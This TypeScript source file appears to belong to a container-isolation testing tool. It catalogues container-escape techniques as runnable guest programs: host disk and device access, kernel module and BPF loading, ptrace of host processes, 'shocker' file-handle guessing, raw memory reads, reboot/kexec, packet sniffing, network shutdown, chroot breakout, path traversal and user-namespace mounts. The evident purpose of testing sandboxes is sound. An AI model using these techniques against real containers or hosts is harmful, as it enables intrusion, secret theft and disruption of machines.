/** A: what flags give away. Each is tried as root with every capability. */
import { AT_FDCWD, O_RDWR } from '../../abi/fcntl.ts';
import { drain, mount, open, steal } from '../guest/moves.ts';
import type { Program } from '../guest/program.ts';
import { ON_HOST, exploitable, given, leaking } from '../twins.ts';
import type { Technique } from '../types.ts';

const S_IFBLK = 0o060000;
/** Names and numbers that first disks have (Linux admin-guide/devices.txt). */
const DISKS = ['/dev/sda', '/dev/vda', '/dev/xvda', '/dev/nvme0n1', '/dev/dm-0', '/dev/mmcblk0'];
const DISK_NUMBERS = [[8, 0], [259, 0], [253, 0], [254, 0], [252, 0], [202, 0]] as const;
/** linux/reboot.h */
const REBOOT_MAGIC = [0xfee1_dead, 0x2812_1969] as const;
const REBOOT_COMMANDS = [0x0123_4567, 0xcdef_0123, 0x4321_fedc, 0xa1b2_c3d4];
const PTRACE_PEEKDATA = 2;
const PTRACE_POKEDATA = 5;
const PTRACE_ATTACH = 16;
const PTRACE_DETACH = 17;
const PTRACE_SEIZE = 0x4206;
const FILE_HANDLE_SIZE = 8;
/** CLONE_NEWNS, CGROUP, UTS, IPC, USER, PID, NET: linux/sched.h. */
const ALL_NAMESPACES = 0x0002_0000 | 0x0200_0000 | 0x0400_0000 | 0x0800_0000 | 0x1000_0000 | 0x2000_0000 | 0x4000_0000;
const AF_PACKET = 17;
const SOCK_RAW = 3;
/** ETH_P_ALL in network order. */
const ALL_PROTOCOLS = 0x0300;
const SIOCSIFFLAGS = 0x8914;
const PERF_FLAG_FD_CLOEXEC = 8;

/** A program for the kernel that gives 0: BPF_MOV64_IMM(R0, 0), BPF_EXIT (linux/bpf.h). */
const BPF_NOTHING = [0xb7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0];

/** Sees memory of another process through ptrace, and changes a word of it. */
function useTrace(guest: Program, pid: number, secretAddress: number, length: number, wordAddress: number): void {
  const word = guest.slot();
  const buffer = guest.buffer(length + 8);
  guest.wait(pid);
  guest.repeat(Math.ceil(length / 8), (round) => {
    const offset = guest.times(round, 8);
    guest.sys('ptrace', PTRACE_PEEKDATA, pid, guest.plus(secretAddress, offset), word.address);
    guest.save(8, guest.plus(buffer, offset), word);
  });
  guest.loot(buffer, length);
  guest.attempt('change its memory', 'ptrace', PTRACE_POKEDATA, pid, wordAddress, 0x6e65_7474_6972_7721n);
  guest.sys('ptrace', PTRACE_DETACH, pid, 0, 0);
}

const RIGHTS: readonly Technique[] = [
  {
    name: 'host-disk', kind: 'A', title: 'The host\'s disk is opened by its name', source: 'CDK mount-disk; deepce privileged', needs: '--privileged or --device', path: 'privileged-disk', isHarmless: false,
    program: (guest) => {
      for (const disk of DISKS) steal(guest, disk);
    },
    twin: given('/dev/vda', 'the host\'s disk is given'),
  },
  {
    name: 'make-disk', kind: 'A', title: 'A device of the host\'s disk is made and read', source: 'CDK mount-disk; CAP_MKNOD', needs: 'CAP_MKNOD and a device rule for all', path: 'make-disk', isHarmless: false,
    program: (guest) => {
      for (const [major, minor] of DISK_NUMBERS) {
        const path = `/tmp/disk-${major}-${minor}`;
        guest.attempt(`mknod ${path}`, 'mknod', guest.text(path), S_IFBLK | 0o600, (major << 8) | minor);
        steal(guest, path);
      }
    },
    twin: leaking('openat', 'a kernel where a device that a guest makes is the host\'s'),
  },
  {
    name: 'kernel-module', kind: 'A', title: 'A module is loaded into the host\'s kernel', source: 'deepce sys_module; metarget cap_sys_module', needs: 'CAP_SYS_MODULE', path: 'kernel-module', isHarmless: false,
    program: (guest) => {
      const image = guest.bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 62, 0, 1, 0, 0, 0]);
      const loaded = guest.attempt('init_module', 'init_module', image, 24, guest.text(''));
      guest.when(loaded, '==', 0, () => guest.claim('a module was loaded'));
      const file = open(guest, '/caisson-drill');
      const loadedFile = guest.attempt('finit_module', 'finit_module', file, guest.text(''), 0);
      guest.when(loadedFile, '==', 0, () => guest.claim('a module was loaded from a file'));
    },
    twin: exploitable('init_module', 'a kernel that loads what it is given'),
  },
  {
    name: 'trace-host-process', kind: 'A', title: 'Code and data of a process of the host are changed through ptrace', source: 'CDK check-ptrace; metarget cap_sys_ptrace', needs: 'CAP_SYS_PTRACE and the host\'s process namespace', path: 'ptrace-host', isHarmless: true,
    program: (guest, { processId, secretAddress, secretLength, wordAddress }) => {
      const attached = guest.attempt(`attach to process ${processId}`, 'ptrace', PTRACE_ATTACH, processId, 0, 0);
      guest.when(attached, '==', 0, () => useTrace(guest, processId, secretAddress, secretLength, wordAddress), () => void guest.attempt('seize it', 'ptrace', PTRACE_SEIZE, processId, 0, 0));
    },
    twin: ON_HOST,
  },
  {
    name: 'file-handles', kind: 'A', title: 'Files of the host are opened by guessed handles', source: 'Sebastian Krahmer, "shocker", 2014; CDK cap-dac-read-search', needs: 'CAP_DAC_READ_SEARCH and a file of the host\'s disk', path: 'file-handles', isHarmless: false,
    grants: ({ readable }) => ({ mounts: [{ source: readable, destination: readable }] }),
    program: (guest, { readable }) => {
      const directory = open(guest, readable);
      const handle = guest.buffer(8 + FILE_HANDLE_SIZE);
      guest.save(4, handle, FILE_HANDLE_SIZE);
      guest.save(4, handle + 4, 1);
      const last = guest.variable(-1);
      // FILEID_INO32_GEN: an inode's number, and its generation, which is 0 in most file systems for the first ones.
      guest.repeat(64, (inode) => {
        guest.save(4, handle + 8, inode);
        guest.save(4, handle + 12, 0);
        guest.set(last, guest.sys('open_by_handle_at', directory, handle, 0));
        guest.when(last, '>=', 0, () => {
          drain(guest, last);
          guest.sys('close', last);
        });
      });
      guest.tell('open_by_handle_at for 64 inodes', last);
    },
    twin: leaking('open_by_handle_at', 'a kernel that opens any inode of the disk'),
  },
  {
    name: 'raw-memory', kind: 'A', title: 'The machine\'s memory and ports are opened', source: 'capabilities(7) CAP_SYS_RAWIO', needs: 'CAP_SYS_RAWIO and /dev/mem', path: 'raw-memory', isHarmless: false,
    program: (guest) => {
      for (const path of ['/dev/mem', '/dev/kmem', '/dev/port', '/proc/kcore', '/dev/cpu/0/msr', '/sys/kernel/security']) steal(guest, path);
      guest.attempt('iopl', 'iopl', 3);
      guest.attempt('ioperm', 'ioperm', 0x70, 2, 1);
      // in al, 0x70; out 0x80, al; hlt; mov rax, cr3: all are faults outside of the kernel.
      for (const bytes of [[0xe4, 0x70], [0xe6, 0x80], [0xf4], [0x0f, 0x20, 0xd8]]) guest.tell('a privileged instruction, its signal', guest.guarded(() => guest.raw(...bytes)));
    },
    twin: given('/dev/mem', 'the machine\'s memory is given'),
  },
  {
    name: 'boot', kind: 'A', title: 'The machine is restarted, or given another kernel', source: 'reboot(2), kexec_load(2)', needs: 'CAP_SYS_BOOT', path: 'boot', isHarmless: false,
    program: (guest) => {
      guest.attempt('kexec_load', 'kexec_load', 0, 0, 0, 0);
      guest.attempt('kexec_file_load', 'kexec_file_load', -1, -1, 1, guest.text(''), 0);
      for (const command of REBOOT_COMMANDS) guest.attempt(`reboot ${command.toString(16)}`, 'reboot', ...REBOOT_MAGIC, command, guest.text('drill'));
      guest.attempt('swapoff', 'swapoff', guest.text('/swapfile'));
      guest.attempt('acct', 'acct', guest.text('/tmp/accounts'));
    },
    twin: exploitable('reboot', 'a kernel that restarts for a guest'),
  },
];

const KERNEL_FACILITIES: readonly Technique[] = [
  {
    name: 'packet-socket', kind: 'A', title: 'Traffic of the host is read from a packet socket', source: 'packet(7); CAP_NET_RAW', needs: 'CAP_NET_RAW on the host\'s network', path: 'host-sniff', isHarmless: false,
    program: (guest, { udpPort }) => {
      const fd = guest.attempt('packet socket', 'socket', AF_PACKET, SOCK_RAW | 0o4000, ALL_PROTOCOLS);
      const raw = guest.attempt('raw socket', 'socket', 2, SOCK_RAW | 0o4000, 255);
      guest.sys('getppid');
      for (const socket of [fd, raw]) guest.when(socket, '>=', 0, () => drain(guest, socket));
      guest.measure('port that was listened for', udpPort);
    },
    twin: leaking('socket', 'a socket on which the host\'s traffic is seen'),
  },
  {
    name: 'network-down', kind: 'A', title: 'The host\'s network is taken down', source: 'netdevice(7); CAP_NET_ADMIN', needs: 'CAP_NET_ADMIN on the host\'s network', path: 'host-network-admin', isHarmless: false,
    program: (guest) => {
      const fd = guest.sys('socket', 2, 2, 0);
      for (const name of ['lo', 'eth0']) {
        const request = guest.buffer(40);
        for (const [index, byte] of [...new TextEncoder().encode(name)].entries()) guest.save(1, request + index, byte);
        guest.attempt(`take ${name} down`, 'ioctl', fd, SIOCSIFFLAGS, request);
      }
    },
    twin: exploitable('ioctl', 'the network of the host is shared'),
  },
  {
    name: 'bpf-program', kind: 'A', title: 'A program is loaded into the host\'s kernel that watches it', source: 'Form3, "Evil eBPF", 2022; CAP_BPF', needs: 'CAP_BPF and CAP_PERFMON', path: 'bpf-trace', isHarmless: false,
    program: (guest) => {
      const program = guest.bytes(BPF_NOTHING);
      const attributes = guest.buffer(128);
      for (const [offset, value] of [[0, 5], [4, 2]] as const) guest.save(4, attributes + offset, value);
      for (const [offset, value] of [[8, program], [16, guest.text('GPL')]] as const) guest.save(8, attributes + offset, value);
      const loaded = guest.attempt('bpf, load a program', 'bpf', 5, attributes, 128);
      guest.when(loaded, '>=', 0, () => drain(guest, loaded));
      guest.attempt('bpf, make a map', 'bpf', 0, guest.words(0x4_0000_0002, 0x1_0000_0004, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0), 128);
    },
    twin: leaking('bpf', 'a kernel that shows a guest\'s programs what is the host\'s'),
  },
  {
    name: 'perf-watch', kind: 'A', title: 'The host\'s kernel is sampled', source: 'perf_event_open(2); CAP_PERFMON', needs: 'CAP_PERFMON', path: 'perf-watch', isHarmless: false,
    program: (guest) => {
      const attributes = guest.buffer(128);
      // PERF_TYPE_SOFTWARE, its size, PERF_COUNT_SW_CPU_CLOCK, a period, PERF_SAMPLE_IP.
      for (const [offset, value] of [[0, 0x80_0000_0001], [16, 10_000], [24, 1]] as const) guest.save(8, attributes + offset, value);
      const fd = guest.attempt('perf_event_open for the whole machine', 'perf_event_open', attributes, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
      guest.when(fd, '>=', 0, () => drain(guest, fd));
    },
    twin: leaking('perf_event_open', 'a kernel that lets a guest sample the host'),
  },
  {
    name: 'kernel-log', kind: 'A', title: 'Messages and addresses of the host\'s kernel are read', source: 'syslog(2); CAP_SYSLOG', needs: 'CAP_SYSLOG', path: 'kernel-log', isHarmless: false,
    program: (guest) => {
      const buffer = guest.buffer(0x1_0000);
      const got = guest.attempt('syslog, read all', 'syslog', 3, buffer, 0x1_0000);
      guest.when(got, '>', 0, () => guest.loot(buffer, got));
      for (const path of ['/dev/kmsg', '/proc/kallsyms', '/sys/kernel/notes', '/sys/kernel/vmcoreinfo']) {
        const fd = open(guest, path, 0o4000);
        guest.when(fd, '>=', 0, () => drain(guest, fd));
      }
    },
    twin: given('/dev/kmsg', 'the host\'s messages are given'),
  },
];

const IDENTITIES: readonly Technique[] = [
  {
    name: 'leave-chroot', kind: 'A', title: 'The root directory is left by a second chroot', source: 'chroot(2); CAP_SYS_CHROOT', needs: 'a container that is made with chroot', isHarmless: true,
    program: (guest, { secretFile }) => {
      const root = open(guest, '/');
      guest.sys('mkdir', guest.text('jail'), 0o700);
      guest.attempt('chroot below', 'chroot', guest.text('jail'));
      guest.attempt('back to a descriptor', 'fchdir', root);
      guest.repeat(64, () => void guest.sys('chdir', guest.text('..')));
      guest.attempt('chroot to what is above', 'chroot', guest.text('.'));
      steal(guest, secretFile);
      steal(guest, `.${secretFile}`);
    },
    twin: ON_HOST,
  },
  {
    name: 'paths-above', kind: 'A', title: 'The root directory is left by a path', source: 'CWE-22', needs: 'names that are resolved on the host', isHarmless: true,
    program: (guest, { secretFile }) => {
      const up = '../'.repeat(40);
      for (const before of ['', `/${up}`, `/proc/self/root/${up}`, '/proc/1/root', '/proc/self/cwd/..', '/proc/thread-self/root', '/dev/fd/0/../..', '/proc/self/fd/1/../..', '//../../']) steal(guest, `${before}${secretFile}`);
    },
    twin: ON_HOST,
  },
  {
    name: 'user-namespace', kind: 'A', title: 'A user makes namespaces, is root in them, and mounts', source: 'CDK abuse-unpriv-userns; CVE-2022-0492', needs: 'user namespaces for users', path: 'release-agent-unshare', as: 'user', isHarmless: true,
    grants: ({ directory }) => ({ mounts: [{ source: directory, destination: directory }] }),
    program: (guest, { secretFile, processId }) => {
      guest.attempt('unshare all namespaces', 'unshare', ALL_NAMESPACES);
      guest.attempt('become root in it', 'setuid', 0);
      const child = guest.fork(() => {
        mount(guest, 'proc', 'proc-mounted', 'proc');
        steal(guest, `proc-mounted/${processId}/environ`);
        mount(guest, '/', 'root-mounted', '', 0x5000);
        steal(guest, `root-mounted${secretFile}`);
        steal(guest, secretFile);
      });
      guest.wait(child);
    },
    twin: ON_HOST,
  },
  {
    name: 'other-users-file', kind: 'A', title: 'A user reads a file of root that is mounted', source: 'capabilities(7) CAP_DAC_OVERRIDE', needs: 'a mount with files of others', as: 'user', isHarmless: true,
    grants: ({ directory }) => ({ mounts: [{ source: directory, destination: directory }] }),
    program: (guest, { secretFile }) => {
      steal(guest, secretFile);
      guest.attempt('chmod', 'fchmodat', AT_FDCWD, guest.text(secretFile), 0o644);
      guest.attempt('chown', 'fchownat', AT_FDCWD, guest.text(secretFile), 65_534, 65_534, 0);
      guest.attempt('access', 'faccessat', AT_FDCWD, guest.text(secretFile), 4);
      open(guest, secretFile, O_RDWR);
      steal(guest, secretFile);
    },
    twin: { ...ON_HOST, what: 'no other user: a process of the host\'s own' },
  },
];

export const CONFIGURATION_TECHNIQUES: readonly Technique[] = [...RIGHTS, ...KERNEL_FACILITIES, ...IDENTITIES];
